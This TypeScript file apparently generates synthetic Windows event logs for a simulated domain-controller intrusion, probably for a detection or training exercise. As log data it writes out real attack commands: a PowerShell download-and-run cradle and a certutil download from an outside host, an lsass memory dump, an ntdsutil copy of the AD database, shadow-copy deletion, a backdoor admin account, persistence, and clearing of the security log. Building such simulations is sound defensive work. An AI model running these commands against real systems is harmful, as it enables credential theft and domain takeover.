import { DOMAIN, hosts, outsiders, staff } from './city.ts';
import { windowsLine } from './formats.ts';
import { MINUTE, SECOND, type Script } from './step.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}\\cmd.exe`;
const ACCOUNT = 'quantri.saoluu';
const DOWNLOAD = `IEX (New-Object Net.WebClient).DownloadString('http://${outsiders.depot}/a.ps1')`;

const security = {
  SourceName: 'Microsoft-Windows-Security-Auditing',
  Channel: 'Security',
  SeverityValue: 2,
} as const;
const sysmon = {
  SourceName: 'Microsoft-Windows-Sysmon',
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventType: 'INFO',
} as const;
const subject = { SubjectUserName: ACCOUNT, SubjectDomainName: DOMAIN, SubjectLogonId: '0x5f21a7' } as const;

/** Stage three: the domain controller falls, and its log is cleared. */
export function playDomainIntrusion(script: Script): void {
  script.notice(38 * MINUTE, `${hosts.web.name} tries accounts at ${hosts.controller.name}.`);
  signIn(script, 38 * MINUTE);
  script.notice(
    42 * MINUTE,
    'Encoded PowerShell runs on the domain controller, then the memory of lsass is read.',
  );
  processes(script, 42 * MINUTE);
  script.notice(50 * MINUTE, 'A new administrator appears, and the log is cleared.');
  takeOver(script, 50 * MINUTE);
}

function write(script: Script, atMs: number, event: Readonly<Record<string, unknown>>): void {
  script.line(atMs, 'dc-events', windowsLine(script.timeOf(atMs), event));
}

function signIn(script: Script, from: number): void {
  const source = {
    IpAddress: hosts.web.address,
    IpPort: 50_212,
    WorkstationName: hosts.web.name,
    LogonType: 3,
  };
  const names = ['Administrator', 'quantri', ...staff.map(({ user }) => user), ACCOUNT];
  for (const [index, name] of names.entries()) {
    write(script, from + index * 8 * SECOND, {
      ...security,
      EventType: 'AUDIT_FAILURE',
      EventID: 4625,
      TargetUserName: name,
      TargetDomainName: DOMAIN,
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
      LogonProcessName: 'NtLmSsp',
      AuthenticationPackageName: 'NTLM',
      ...source,
    });
  }
  write(script, from + 80 * SECOND, {
    ...security,
    EventType: 'AUDIT_SUCCESS',
    EventID: 4624,
    TargetUserName: ACCOUNT,
    TargetDomainName: DOMAIN,
    TargetLogonId: subject.SubjectLogonId,
    LogonProcessName: 'NtLmSsp',
    AuthenticationPackageName: 'NTLM',
    ...source,
  });
}

/** Image, command line and parent of what the intruder runs, in order. */
const STARTED: readonly (readonly [image: string, commandLine: string, parent: string])[] = [
  [CMD, 'cmd.exe /c whoami /all', `${SYSTEM32}\\wbem\\WmiPrvSE.exe`],
  [`${SYSTEM32}\\whoami.exe`, 'whoami /all', CMD],
  [`${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain', CMD],
  [POWERSHELL, `powershell.exe -NoP -W Hidden -Enc ${encoded(DOWNLOAD)}`, CMD],
  [
    `${SYSTEM32}\\certutil.exe`,
    `certutil -urlcache -split -f http://${outsiders.depot}/p.exe C:\\Windows\\Temp\\p.exe`,
    CMD,
  ],
  [
    `${SYSTEM32}\\rundll32.exe`,
    'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\l.dmp full',
    POWERSHELL,
  ],
  [`${SYSTEM32}\\ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\n" q q', CMD],
  [`${SYSTEM32}\\vssadmin.exe`, 'vssadmin delete shadows /all /quiet', CMD],
];

function processes(script: Script, from: number): void {
  const { random } = script;
  for (const [index, [image, commandLine, parent]] of STARTED.entries()) {
    write(script, from + index * 45 * SECOND, {
      ...sysmon,
      EventID: 1,
      ProcessGuid: `{${random.hex(8)}-0000-0000-0000-${random.hex(12)}}`,
      ProcessId: random.int(4000, 9000),
      Image: image,
      OriginalFileName: originalNameOf(image),
      CommandLine: commandLine,
      CurrentDirectory: 'C:\\Windows\\Temp\\',
      User: `${DOMAIN}\\${ACCOUNT}`,
      LogonId: subject.SubjectLogonId,
      IntegrityLevel: 'High',
      ParentImage: parent,
      ParentCommandLine: parent,
    });
  }
  write(script, from + 3 * 45 * SECOND + 900, {
    SourceName: 'Microsoft-Windows-PowerShell',
    Channel: 'Microsoft-Windows-PowerShell/Operational',
    EventType: 'WARNING',
    EventID: 4104,
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: DOWNLOAD,
    ScriptBlockId: '5d0b7c0e-2a44-4a0c-8f55-0c4f6e0a2c11',
  });
  write(script, from + 5 * 45 * SECOND + 400, {
    ...sysmon,
    EventID: 10,
    SourceImage: `${SYSTEM32}\\rundll32.exe`,
    TargetImage: `${SYSTEM32}\\lsass.exe`,
    GrantedAccess: '0x1FFFFF',
    CallTrace: `${SYSTEM32}\\ntdll.dll+9d4c4|${SYSTEM32}\\dbgcore.dll+6f0a|${SYSTEM32}\\comsvcs.dll+9a2c`,
    SourceUser: `${DOMAIN}\\${ACCOUNT}`,
    TargetUser: 'NT AUTHORITY\\SYSTEM',
  });
}

function takeOver(script: Script, from: number): void {
  const success = { ...security, EventType: 'AUDIT_SUCCESS', ...subject };
  const member = `CN=svc-capnhat,CN=Users,DC=thanhpho,DC=example`;
  const events: readonly Readonly<Record<string, unknown>>[] = [
    {
      ...success,
      EventID: 4720,
      TargetUserName: 'svc-capnhat',
      TargetDomainName: DOMAIN,
      SamAccountName: 'svc-capnhat',
    },
    {
      ...success,
      EventID: 4728,
      TargetUserName: 'Domain Admins',
      TargetDomainName: DOMAIN,
      MemberName: member,
    },
    {
      ...success,
      EventID: 4732,
      TargetUserName: 'Administrators',
      TargetDomainName: 'Builtin',
      TargetSid: 'S-1-5-32-544',
      MemberName: member,
    },
    {
      SourceName: 'Service Control Manager',
      Channel: 'System',
      EventType: 'INFO',
      EventID: 7045,
      ServiceName: 'CapNhatHeThong',
      ImagePath: `%COMSPEC% /c powershell -nop -w hidden -enc ${encoded('Start-Sleep 60')}`,
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    },
    {
      ...success,
      EventID: 4698,
      TaskName: '\\CapNhat',
      TaskContent: `<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -f C:\\Windows\\Temp\\a.ps1</Arguments></Exec></Actions></Task>`,
    },
    {
      SourceName: 'Microsoft-Windows-Eventlog',
      Channel: 'Security',
      EventType: 'INFO',
      EventID: 1102,
      SubjectUserName: ACCOUNT,
      SubjectDomainName: DOMAIN,
    },
  ];
  for (const [index, event] of events.entries()) write(script, from + index * 50 * SECOND, event);
}

/** A script as `-EncodedCommand` wants it: UTF-16 in base64. */
function encoded(source: string): string {
  return Buffer.from(source, 'utf16le').toString('base64');
}

function originalNameOf(image: string): string {
  const name = image.slice(image.lastIndexOf('\\') + 1);
  const original: Readonly<Record<string, string>> = {
    'powershell.exe': 'PowerShell.EXE',
    'cmd.exe': 'Cmd.Exe',
    'certutil.exe': 'CertUtil.exe',
    'rundll32.exe': 'RUNDLL32.EXE',
    'vssadmin.exe': 'VSSADMIN.EXE',
  };
  return original[name] ?? name;
}
